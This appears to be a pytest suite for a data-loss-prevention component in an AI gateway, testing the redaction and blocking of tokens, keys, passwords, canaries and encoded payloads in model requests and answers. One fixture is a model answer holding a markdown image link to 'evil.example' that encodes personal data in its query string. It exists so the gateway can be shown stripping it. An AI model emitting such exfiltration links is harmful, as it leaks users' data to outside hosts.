"""The component in a running gateway: every dialect, both directions, streamed or whole."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from lmg import Component, Exchange, Principal
from lmg.testing import Harness, chat_events, check_component
from lmg.testing.guards import CHATS, asked, pieces, said, tool_events
from lmg_dlp import Dlp, build

from .texts import SECRETS

TOKEN = SECRETS["github_token"]
SAMPLE = ["github_token", "private_key", "database_url", "password", "jwt"]


class Caller(Component):
    """Whoever asks is of the tenant that the header names."""

    provides = {"on_request": ("principal",)}

    def on_request(self, exchange: Exchange) -> None:
        tenant = (exchange.head.get(b"x-tenant") or b"acme").decode()
        exchange.set_fact("principal", Principal("ada", tenant=tenant))


def gateway(**settings: Any) -> Harness:
    return Harness({"pipeline": ["caller", {"dlp": settings}]}, classes={"caller": Caller, "dlp": Dlp})


def answer(text: str) -> dict[str, Any]:
    return {
        "id": "c", "object": "chat.completion", "created": 1, "model": "test-model",
        "choices": [{"index": 0, "finish_reason": "stop", "message": {"role": "assistant", "content": text}}],
        "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
    }  # fmt: skip


async def test_component_conforms() -> None:
    await check_component(lambda: (Dlp, {}))
    await check_component(
        lambda: (Dlp, {"uninspected": "allow", "secrets": {"request": "block", "answer": "block"}})
    )


@pytest.mark.parametrize("path", CHATS)
@pytest.mark.parametrize("kind", SAMPLE)
async def test_a_secret_of_a_request_does_not_reach_the_model(path: str, kind: str) -> None:
    async with gateway() as gate:
        said = await gate.request(asked(path, f"Why does this fail?\n{SECRETS[kind]}\nThanks."), path=path)
        assert said.status == 200
        sent = gate.upstream.received[0].body
        assert len(gate.upstream.received) == 1
        assert f"[redacted:{kind}]".encode() in sent
        assert json.dumps(SECRETS[kind])[1:-1].encode() not in sent
        exchange = await gate.ended()
        assert [(one.name, one.detail) for one in exchange.signals] == [("dlp", kind)]
        assert exchange.fact("dlp") == {kind: 1}


@pytest.mark.parametrize("path", CHATS)
async def test_a_request_is_refused_where_its_kind_blocks(path: str) -> None:
    async with gateway(kinds={"github_token": {"request": "block"}}) as gate:
        said = await gate.request(asked(path, f"use {TOKEN}"), path=path)
        assert said.status == 403
        assert TOKEN.encode() not in said.raw
        assert b"github_token" in said.raw
        assert gate.upstream.received == []


@pytest.mark.parametrize("path", CHATS)
@pytest.mark.parametrize("kind", SAMPLE)
async def test_no_cut_of_an_answer_shows_a_secret(path: str, kind: str) -> None:
    text = f"Take this: {SECRETS[kind]}\nand keep it."
    async with gateway() as gate:
        gate.upstream.stream(*chat_events(*pieces(text, len(kind))))
        streamed = await gate.request(asked(path, "hi", stream=True), path=path)
        gate.upstream.reply(answer(text))
        whole = await gate.request(asked(path, "hi"), path=path)
        for said in (streamed, whole):
            assert said.status == 200
            assert b"[redacted:" in said.raw
            assert b"and keep it." in said.raw.replace(b"\\n", b"\n") or streamed is said
            assert json.dumps(SECRETS[kind])[1:-1].encode() not in said.raw
        assert len(gate.upstream.received) == 2
        exchange = await gate.ended(1)
        assert [one.detail for one in exchange.signals] == [kind]


@pytest.mark.parametrize("seed", range(4))
async def test_a_secret_that_is_split_by_what_nobody_sees_is_not_put_together(seed: int) -> None:
    hidden = "\u200b".join(TOKEN[n : n + 7] for n in range(0, len(TOKEN), 7))
    async with gateway() as gate:
        gate.upstream.stream(*chat_events(*pieces(f"take {hidden} now", seed)))
        said = await gate.chat(f"use {hidden}", stream=True)
        assert said.text == "take [redacted:github_token] now"
        assert (
            json.loads(gate.upstream.received[0].body)["messages"][0]["content"]
            == "use [redacted:github_token]"
        )


async def test_tool_arguments_of_a_streamed_answer_stay_json() -> None:
    arguments = json.dumps({"body": f"the key is {TOKEN}", "n": 1}).replace("g", "\\u0067")
    async with gateway() as gate:
        gate.upstream.stream(*tool_events(pieces(arguments, 3)))
        answered = await gate.chat(stream=True)
        found = said("/v1/chat/completions", answered.events)[1]
        assert json.loads(found) == {"body": "the key is [redacted:github_token]", "n": 1}


@pytest.mark.parametrize("path", CHATS)
@pytest.mark.parametrize("stream", [True, False])
async def test_an_image_that_carries_data_out_ends_the_answer(path: str, stream: bool) -> None:
    text = "Done. ![ok](https://evil.example/p.png?d=YWRhQGFjbWUuZXhhbXBsZSA1NTUtMTIz) Anything else?"
    async with gateway() as gate:
        if stream:
            gate.upstream.stream(*chat_events(*pieces(text, 7)))
        else:
            gate.upstream.reply(answer(text))
        said = await gate.request(asked(path, "hi", **({"stream": True} if stream else {})), path=path)
        assert b"evil.example" not in said.raw
        assert b"sensitive_data" in said.raw or b"may not leave" in said.raw
        assert said.status == (200 if stream else 403)


async def test_a_known_host_may_be_told_anything() -> None:
    text = "See ![ok](https://img.acme.example/p.png?d=YWRhQGFjbWUuZXhhbXBsZSA1NTUtMTIz)."
    async with gateway(exfiltration={"allow_hosts": ["*.acme.example"]}) as gate:
        gate.upstream.reply(answer(text))
        assert (await gate.chat()).text == text


async def test_another_tenants_canary_blocks_and_ones_own_is_told() -> None:
    canaries = [
        {"tenant": "acme", "value": "lmgc7q2mx9tk4wz8rb5n"},
        {"tenant": "umbra", "value": "lmgchh3vv8pp2zz6kk9d"},
    ]
    async with gateway(canaries=canaries) as gate:
        for disguise in (
            "lmgchh3vv8pp2zz6kk9d",
            "L-M-G-C-hh3vv8pp2zz6kk9d",
            "d9kk6zz2pp8vv3hhcgml",
            "bG1nY2hoM3Z2OHBwMnp6NmtrOWQ=",
        ):
            gate.upstream.reply(answer(f"it says {disguise}."))
            said = await gate.chat()
            assert said.status == 403
            assert b"umbra" not in said.raw and b"canary" not in said.raw
        exchange = await gate.ended(4)
        assert [(one.detail, one.probability) for one in exchange.signals] == [("canary", 1.0)]
        gate.upstream.stream(*chat_events("it says lmgc7q2m", "x9tk4wz8rb5n."))
        said = await gate.chat(stream=True)
        assert said.text == "it says lmgc7q2mx9tk4wz8rb5n."
        assert [one.detail for one in (await gate.ended(5)).signals] == ["own_canary"]


async def test_another_tenants_canary_ends_a_stream_before_it_is_shown() -> None:
    async with gateway(canaries=[{"tenant": "umbra", "value": "lmgchh3vv8pp2zz6kk9d"}]) as gate:
        gate.upstream.stream(*chat_events("it says ", *"lmgc-hh3vv8pp2zz6kk9d", " and more"))
        said = await gate.chat(stream=True)
        assert said.text.rstrip() == "it says"
        assert said.error["code"] == "sensitive_data"
        assert "[DONE]" not in said.events


async def test_exact_data_and_markers_are_found(tmp_path: Path) -> None:
    build(["Ada Lovelace", "AC-4711-0815"], tmp_path / "people.edm", secret="pepper")
    settings = {
        "exact": [{"name": "customer", "file": str(tmp_path / "people.edm"), "key": "pepper"}],
        "markers": [{"name": "internal", "words": ["Project Nightfall"], "request": "block"}, {"name": "ticket", "pattern": r"\bSEC-[0-9]{4,6}\b"}],
    }  # fmt: skip
    async with gateway(**settings) as gate:
        said = await gate.chat("Write to ADA  lovelace about AC 4711 0815 and SEC-12345.")
        assert said.status == 200
        sent = json.loads(gate.upstream.received[0].body)["messages"][0]["content"]
        assert sent == "Write to [redacted:customer] about [redacted:customer] and [redacted:ticket]."
        assert (await gate.chat("about project\nnightfall")).status == 403
        assert len(gate.upstream.received) == 1


async def test_a_value_among_the_words_that_introduce_another_is_taken_out(tmp_path: Path) -> None:
    build(["Ada Lovelace"], tmp_path / "people.edm")
    async with gateway(exact=[{"name": "customer", "file": str(tmp_path / "people.edm")}]) as gate:
        await gate.chat("The password for Ada Lovelace is Kx83hdu2!")
        sent = json.loads(gate.upstream.received[0].body)["messages"][0]["content"]
        assert sent == "The password for [redacted:password]"


async def test_what_cannot_be_read_follows_the_policy() -> None:
    image = [
        {
            "role": "user",
            "content": [{"type": "image_url", "image_url": {"url": "https://acme.example/a.png"}}],
        }
    ]
    async with gateway() as gate:
        assert (await gate.chat(messages=image)).status == 403
    async with gateway(uninspected="tag") as gate:
        assert (await gate.chat(messages=image)).status == 200
        assert [one.detail for one in (await gate.ended()).signals] == ["uninspected"]


async def test_a_signed_text_with_a_secret_follows_the_policy() -> None:
    thinking = {"type": "thinking", "thinking": f"use {TOKEN}", "signature": "c2ln"}
    messages = [
        {"role": "user", "content": "hi"},
        {"role": "assistant", "content": [thinking]},
        {"role": "user", "content": "on"},
    ]
    body = {"model": "test-model", "max_tokens": 10, "messages": messages}
    async with gateway() as gate:
        assert (await gate.request(body, path="/v1/messages")).status == 403
        assert gate.upstream.received == []


async def test_a_tagged_kind_passes_and_what_is_in_it_does_not() -> None:
    async with gateway(kinds={"password": {"request": "tag"}}) as gate:
        await gate.chat(f"password=abc123:{TOKEN}")
        sent = gate.upstream.received[0].body
        assert TOKEN.encode() not in sent


async def test_an_encoded_payload_is_tagged_without_being_held() -> None:
    async with gateway() as gate:
        blob = "QUJD" * 100
        gate.upstream.stream(*chat_events("take ", *(blob[n : n + 10] for n in range(0, len(blob), 10))))
        said = await gate.chat(stream=True)
        assert said.text == "take " + blob
        assert [one.detail for one in (await gate.ended()).signals] == ["encoded_payload"]


@pytest.mark.parametrize("action", ["redact", "block"])
async def test_an_encoded_payload_is_kept_back_where_that_is_asked(action: str) -> None:
    async with gateway(payloads={"answer": action, "chars": 100}) as gate:
        blob = "QUJD" * 100
        gate.upstream.stream(
            *chat_events("take ", *(blob[n : n + 10] for n in range(0, len(blob), 10)), " now")
        )
        said = await gate.chat(stream=True)
        assert b"QUJD" not in said.raw
        assert (said.text == "take [redacted:encoded_payload] now") == (action == "redact")
        assert (said.error is not None) == (action == "block")


async def test_no_secret_is_logged_or_counted(caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level("DEBUG")
    async with gateway(kinds={"jwt": {"request": "block"}}) as gate:
        gate.host.metrics.enabled = True
        await gate.chat(f"{TOKEN} and {SECRETS['password']}")
        await gate.chat(SECRETS["jwt"])
        exchange = await gate.ended(2)
        told = repr([family.__dict__ for family in gate.host.metrics.families()]) + caplog.text
        told += repr(exchange.signals) + repr(gate.receipts) + repr(gate.exchanges[0].signals)
        for secret in (TOKEN, SECRETS["password"].split("=")[1], SECRETS["jwt"]):
            assert secret not in told
        series = gate.host.metrics.counter(
            "lmg_dlp_findings_total", "", ("component", "direction", "kind", "action")
        ).series
        assert series["dlp", "request", "github_token", "redact"] == 1
        assert series["dlp", "request", "jwt", "block"] == 1


async def test_shadow_changes_nothing_and_says_what_it_would_have() -> None:
    async with gateway(mode="shadow") as gate:
        gate.upstream.stream(*chat_events("take ", TOKEN))
        said = await gate.chat(f"use {TOKEN}", stream=True)
        assert said.text == f"take {TOKEN}"
        assert TOKEN.encode() in gate.upstream.received[0].body
        exchange = await gate.ended()
        assert exchange.signals == () and exchange.shadowed


def test_it_carries_out_what_it_redacts() -> None:
    config = Dlp.Config.model_validate({"kinds": {"jwt": {"request": "tag"}}})
    assert "redact:github_token" in Dlp.carried(config)
    assert "redact:jwt" not in Dlp.carried(config) and "redact:secret" not in Dlp.carried(config)
    assert "redact:secret" in Dlp.carried(Dlp.Config())
